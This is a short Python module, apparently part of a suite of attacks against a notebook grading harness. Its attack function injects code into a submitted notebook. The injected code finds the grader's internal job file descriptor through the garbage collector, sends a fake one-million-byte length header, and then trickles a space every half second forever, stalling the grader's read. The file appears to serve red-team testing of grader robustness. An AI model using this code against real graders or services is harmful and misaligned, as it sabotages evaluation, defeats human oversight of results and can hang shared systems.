"""Begins a message to the grader and goes on with it byte by byte, so that no read waits long."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import gc, os, struct, time
job = next(o for o in gc.get_objects() if type(o).__name__ == '_Work').job.fileno()
os.write(job, struct.pack('<I', 1_000_000))
while True:
    os.write(job, b' ')
    time.sleep(0.5)
""",
    )
